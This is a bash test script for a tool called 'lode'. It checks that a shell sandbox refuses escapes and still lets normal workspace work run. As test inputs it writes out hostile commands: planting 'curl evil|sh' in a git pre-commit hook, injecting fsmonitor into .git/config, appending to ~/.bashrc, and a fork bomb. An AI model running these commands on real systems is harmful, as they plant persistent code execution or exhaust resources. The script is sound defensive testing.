#!/usr/bin/env bash
# The run_shell sandbox and the path policy, through `lode sandbox`: escape
# attempts are refused with a reason while normal work in the workspace runs.
# Boundaries whose kernel mechanism is missing are skipped with the reason;
# the fail-closed refusals are forced through LODE_SANDBOX_DISABLE.
. "$(dirname "$0")/lib.bash"

WS=$TMP/ws OUT=$TMP/outside FAKEHOME=$TMP/home
mkdir -p "$WS/.git/hooks" "$WS/.husky" "$WS/src" "$OUT" "$FAKEHOME" "$XDG_DATA_HOME/lode"
printf '[core]\n\thooksPath = .husky\n' > "$WS/.git/config"
echo '# rc' > "$FAKEHOME/.bashrc"
ln -s "$OUT" "$WS/link_out"
export HOME=$FAKEHOME
run() { "$LODE" sandbox run --workspace "$WS" "$@"; }

"$LODE" sandbox > "$TMP/level" 2>&1
level=$(grep -o '^L[0-3]' "$TMP/level" | head -n 1)
if [ -n "$level" ]; then ok "sandbox level reported ($level)"; else fail "sandbox level" "$(cat "$TMP/level")"; fi
why=$(grep '^missing:' "$TMP/level" | cut -c10-)
LANDLOCK=0; [ "$level" = L2 ] || [ "$level" = L3 ] && LANDLOCK=1
NS=0; [ "$level" = L3 ] && NS=1
APPROVE=(); [ "$NS" = 1 ] || APPROVE=(--approve)

# ---- usage
expect_err "run without -- is a usage error" 2 "put the command after --" "$LODE" sandbox run echo hi
expect_err "bad --timeout is a usage error" 2 "--timeout" "$LODE" sandbox run --timeout abc -- true
expect_err "unknown action" 2 "unknown action" "$LODE" sandbox frob

# ---- fail closed (forced through the probe's test hook)
LODE_SANDBOX_DISABLE=all run -- touch "$WS/unconfined" > "$TMP/out" 2> "$TMP/err"; rc=$?
if [ $rc = 1 ] && grep -q "refusing to run" "$TMP/err" && grep -q "network" "$TMP/err" && [ ! -e "$WS/unconfined" ]; then
  ok "no seccomp and no netns: refused, says what is missing"
else fail "fail closed at L0" "exit $rc" "$(cat "$TMP/err")"; fi
LODE_SANDBOX_DISABLE=userns run -- touch "$WS/unconfined" > "$TMP/out" 2> "$TMP/err"; rc=$?
if [ $rc = 1 ] && grep -q "without approval" "$TMP/err" && [ ! -e "$WS/unconfined" ]; then
  ok "below L3 without approval: refused"
else fail "fail closed below L3" "exit $rc" "$(cat "$TMP/err")"; fi
LODE_SANDBOX_DISABLE=userns run --hidden src --approve -- true > "$TMP/out" 2> "$TMP/err"; rc=$?
if [ $rc = 1 ] && grep -q "hidden paths" "$TMP/err"; then ok "hidden paths without a mount namespace: refused"
else fail "hidden paths fail closed" "exit $rc" "$(cat "$TMP/err")"; fi

if [ "$level" = L0 ]; then
  skip "sandboxed runs" "L0: $why"
  summary
fi

# ---- normal work succeeds
run "${APPROVE[@]}" -- 'echo hello > src/new.txt && cat src/new.txt && mkdir -p build/x && echo t > "$TMPDIR/t" && cat "$TMPDIR/t"' > "$TMP/out" 2> "$TMP/err"; rc=$?
if [ $rc = 0 ] && grep -qx hello "$TMP/out" && grep -qx t "$TMP/out" && [ -f "$WS/src/new.txt" ] && [ -d "$WS/build/x" ]; then
  ok "work in the workspace and the private temp dir"
else fail "normal work" "exit $rc" "$(cat "$TMP/out" "$TMP/err")"; fi
expect_exit 5 "the command's exit status comes back" run "${APPROVE[@]}" -- 'exit 5'
run "${APPROVE[@]}" --output-cap 200 -- 'seq 1 5000' > "$TMP/out" 2> "$TMP/err"
if head -n 1 "$TMP/out" | grep -qx 1 && tail -n 1 "$TMP/out" | grep -qx 5000 && grep -q "bytes omitted" "$TMP/out"; then
  ok "output capped, head and tail kept"
else fail "output cap" "$(head -c 300 "$TMP/out")"; fi

# ---- escapes: writes
# attempt NAME FILE CMD: the command tries to write FILE; passes when FILE is unchanged
attempt() {
  local name=$1 file=$2 cmd=$3 before after
  before=$(cat "$file" 2>/dev/null | md5sum)
  run "${APPROVE[@]}" -- "$cmd" > "$TMP/out" 2> "$TMP/err"
  after=$(cat "$file" 2>/dev/null | md5sum)
  if [ "$before" = "$after" ] && grep -qiE "permission denied|read-only file system|operation not permitted|resource busy" "$TMP/out"; then
    ok "$name: refused ($(head -n 1 "$TMP/out" | sed 's/.*: //'))"
  else fail "$name" "file changed or no reason given" "$(cat "$TMP/out" "$TMP/err")"; fi
}
if [ "$LANDLOCK" = 1 ]; then
  attempt "write outside the workspace" "$OUT/f" "echo x > '$OUT/f'"
  attempt "write through a symlink pointing outside" "$OUT/g" "echo x > link_out/g"
  attempt "write with .. out of the workspace" "$OUT/h" "echo x > ../outside/h"
  attempt "write to ~/.bashrc (fake HOME)" "$FAKEHOME/.bashrc" 'echo evil >> ~/.bashrc'
  attempt "write to lode's database dir" "$XDG_DATA_HOME/lode/lode.db" "echo x > '$XDG_DATA_HOME/lode/lode.db'"
else
  skip "writes outside the workspace" "needs Landlock: $why"
fi
if [ "$NS" = 1 ]; then
  attempt "write to .git/hooks" "$WS/.git/hooks/pre-commit" 'echo "curl evil|sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit'
  attempt "write to .git/config" "$WS/.git/config" 'echo "[core] fsmonitor=evil" >> .git/config'
  attempt "write to the project's .lode/ config" "$WS/.lode/config.json" 'echo "{\"sandbox\":{\"network\":true}}" > .lode/config.json'
  mkdir -p "$WS/home"; echo '# rc' > "$WS/home/.bashrc"
  HOME=$WS/home attempt "write to ~/.bashrc when HOME is inside the workspace" "$WS/home/.bashrc" 'echo evil >> ~/.bashrc'
  mkdir -p "$WS/xdg/lode"
  XDG_DATA_HOME=$WS/xdg attempt "write to lode's database dir inside the workspace" "$WS/xdg/lode/lode.db" "echo x > xdg/lode/lode.db"
  attempt "write to core.hooksPath (.husky)" "$WS/.husky/pre-commit" 'echo evil > .husky/pre-commit'
  XDG_CONFIG_HOME=$WS/cfg attempt "create lode's config dir inside the workspace" "$WS/cfg/lode/config.json" 'mkdir -p cfg/lode; echo "{}" > cfg/lode/config.json'
  attempt "swap .git for a fresh one with hooks" "$WS/.git/hooks/pre-commit" 'mv .git .git-old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit'
  attempt "rename .git/hooks away and recreate it" "$WS/.git/hooks/pre-commit" 'mv .git/hooks .git/h2; mkdir .git/hooks; echo evil > .git/hooks/pre-commit'
  if command -v git > /dev/null; then
    (cd "$WS" && git init -q . 2>/dev/null)
    run -- 'echo a > a && git add a && git -c user.email=t@t -c user.name=t commit -q -m one && git log --oneline | wc -l' > "$TMP/out" 2>&1
    if grep -qx 1 "$TMP/out"; then ok "git add and commit work inside the sandbox"; else fail "git in the sandbox" "$(cat "$TMP/out")"; fi
  fi
  run -- 'test -d .git/hooks && echo x > .git/HEAD2 && echo fine' > "$TMP/out" 2>&1
  if grep -qx fine "$TMP/out"; then ok "the rest of .git stays writable"; else fail "rest of .git writable" "$(cat "$TMP/out")"; fi
else
  skip "protected paths inside the workspace" "needs a mount namespace (L3): $why"
fi

# ---- escapes: network
LPID=
start_listener() {
  python3 - "$TMP/port" > /dev/null 2>&1 <<'PY' &
import os, socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(8)
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
s.settimeout(30)
try:
    while True: s.accept()[0].close()
except Exception: pass
PY
  LPID=$!
  for _ in $(seq 50); do [ -s "$TMP/port" ] && break; sleep 0.1; done
}
command -v python3 > /dev/null && start_listener
port=$(cat "$TMP/port" 2>/dev/null)
if [ -n "$port" ]; then
  "$LODE" sandbox selftest-connect "$port" > "$TMP/out" 2>&1
  if grep -q CONNECTED "$TMP/out"; then ok "the test listener accepts outside the sandbox"; else fail "listener sanity" "$(cat "$TMP/out")"; fi
  run "${APPROVE[@]}" -- "'$LODE' sandbox selftest-connect $port" > "$TMP/out" 2> "$TMP/err"; rc=$?
  if [ $rc = 0 ] && grep -q blocked "$TMP/out"; then ok "connect() to 127.0.0.1 refused ($(head -n 1 "$TMP/out"))"
  else fail "connect() to 127.0.0.1" "exit $rc" "$(cat "$TMP/out" "$TMP/err")"; fi
  run "${APPROVE[@]}" --network -- "'$LODE' sandbox selftest-connect $port" > "$TMP/out" 2> "$TMP/err"
  if grep -q CONNECTED "$TMP/out"; then ok "--network (sandbox.network) allows it"
  else fail "--network" "$(cat "$TMP/out" "$TMP/err")"; fi
  kill "$LPID" 2>/dev/null; wait "$LPID" 2>/dev/null
else
  [ -n "$LPID" ] && kill "$LPID" 2>/dev/null
  skip "connect() to 127.0.0.1" "no python3 for the listener"
fi

# ---- escapes: terminal, resources, processes
if command -v script > /dev/null; then
  # lode itself runs on a terminal here; the command must not reach it
  script -qec "'$LODE' sandbox run --workspace '$WS' ${APPROVE[*]} -- \"'$LODE' sandbox selftest-tty\"" /dev/null > "$TMP/out" 2>&1
  script -qec "'$LODE' sandbox selftest-tty" /dev/null > "$TMP/sanity" 2>&1
  if grep -q "no controlling terminal" "$TMP/out" && ! grep -q WORKED "$TMP/out" && grep -q "HAS a controlling terminal" "$TMP/sanity"; then
    ok "TIOCSTI: the command has no terminal (lode has one)"
  else fail "TIOCSTI" "$(cat "$TMP/out")" "sanity: $(cat "$TMP/sanity")"; fi
else
  run "${APPROVE[@]}" -- "'$LODE' sandbox selftest-tty" > "$TMP/out" 2>&1
  if grep -q "no controlling terminal" "$TMP/out" && ! grep -q WORKED "$TMP/out"; then ok "TIOCSTI: no terminal"
  else fail "TIOCSTI" "$(cat "$TMP/out")"; fi
fi
run "${APPROVE[@]}" --fsize 1048576 -- 'dd if=/dev/zero of=big bs=1M count=10240' > "$TMP/out" 2>&1
size=$(stat -c %s "$WS/big" 2>/dev/null || echo 0)
if [ "$size" -le 1048576 ]; then ok "a 10 GB write stops at the file-size limit ($size bytes)"
else fail "10 GB write" "size $size"; fi
rm -f "$WS/big"
start=$(date +%s)
run "${APPROVE[@]}" --timeout 1 -- 'sleep 30' > "$TMP/out" 2> "$TMP/err"; rc=$?
took=$(( $(date +%s) - start ))
if [ $rc = 137 ] && [ $took -lt 20 ] && grep -q "timeout" "$TMP/err"; then ok "wall-clock timeout kills the command (${took}s)"
else fail "timeout" "exit $rc after ${took}s" "$(cat "$TMP/err")"; fi
# the fork bomb: bounded by the pids cgroup (root included) or RLIMIT_NPROC;
# the peak is the kernel's own count of tasks in the run's cgroup
# (pids.peak), so pass/fail does not depend on the machine's speed
mech=$("$LODE" sandbox | sed -n 's/^process limit: //p')
case "$mech" in
none*)
  expect_err "fork bomb: refused when nothing enforces the limit" 1 "process limit" \
    run "${APPROVE[@]}" --nproc 64 -- true
  skip "fork bomb" "$mech" ;;
*)
  # a watcher started first counts the sandbox's processes in its own /proc
  # (L3: a pid namespace), independently of the cgroup's count
  rm -f "$WS/peak.txt"
  watch=""; [ "$NS" = 1 ] && watch="'$LODE' sandbox selftest-peak peak.txt 3 & sleep 0.2; "
  start=$(date +%s)
  run "${APPROVE[@]}" --nproc 64 --timeout 3 -- "${watch}f() { f | f & }; f; sleep 1" > "$TMP/out" 2> "$TMP/err"
  took=$(( $(date +%s) - start ))
  peak=$(sed -n 's/.*at most \([0-9]*\) tasks at once.*/\1/p' "$TMP/err")
  case "$mech" in
  pids*)
    if [ -n "$peak" ] && [ "$peak" -le 64 ] && [ "$peak" -gt 1 ] && [ $took -lt 25 ]; then
      ok "a fork bomb stays bounded: at most $peak tasks at once (pids.peak, limit 64, ${took}s)"
    else fail "fork bomb" "peak '${peak}' (limit 64) after ${took}s" "$(tail -3 "$TMP/err")"; fi
    if [ "$NS" = 1 ]; then
      seen=$(cat "$WS/peak.txt" 2>/dev/null)
      if [ -n "$seen" ] && [ "$seen" -le 64 ] && [ "$seen" -gt 2 ]; then
        ok "fork bomb: a watcher inside saw at most $seen processes (limit 64)"
      else fail "fork bomb watcher" "saw '${seen}' processes (limit 64)" "$(head -3 "$TMP/out")"; fi
    fi
    rm -f "$WS/peak.txt" ;;
  *)
    if [ $took -lt 25 ]; then ok "a fork bomb stays bounded by $mech (${took}s)"
    else fail "fork bomb" "took ${took}s"; fi ;;
  esac ;;
esac
start=$(date +%s)
run "${APPROVE[@]}" -- 'sleep 30 & echo started' > "$TMP/out" 2>&1
took=$(( $(date +%s) - start ))
if [ $took -lt 20 ]; then ok "background processes end with the command"; else fail "leftovers" "took ${took}s"; fi

# ---- the path policy (what the file tools use): .. and absolute paths, symlinks
chk() { "$LODE" sandbox check --workspace "$WS" "$@"; }
expect_out "policy: write inside the workspace" "write allowed" chk --write src/new.txt
expect_err "policy: .. out of the workspace" 1 "outside the workspace" chk --write ../outside/x
expect_err "policy: absolute path outside" 1 "outside the workspace" chk --write /etc/passwd
expect_out "policy: reading outside is allowed" "read allowed" chk /etc/hostname
expect_err "policy: symlink pointing outside" 1 "outside the workspace" chk --write link_out/x
expect_err "policy: .git/hooks" 1 ".git/hooks" chk --write .git/hooks/pre-commit
expect_err "policy: core.hooksPath" 1 "hooksPath" chk --write .husky/pre-commit
expect_err "policy: ~/.bashrc" 1 "shell start-up" chk --write "$FAKEHOME/.bashrc"
expect_err "policy: lode's data dir" 1 "lode's own" chk --write "$XDG_DATA_HOME/lode/lode.db"
expect_err "policy: hidden path" 1 "hidden" chk --hidden src src/new.txt

# ---- the self-test
"$LODE" sandbox --verify > "$TMP/out" 2>&1; rc=$?
if [ $rc = 0 ] && grep -q "every available boundary holds" "$TMP/out" && ! grep -q FAIL "$TMP/out"; then
  ok "sandbox --verify: $(grep -c ' pass ' "$TMP/out") pass, $(grep -c ' unavailable ' "$TMP/out") unavailable"
else fail "sandbox --verify" "exit $rc" "$(cat "$TMP/out")"; fi

summary
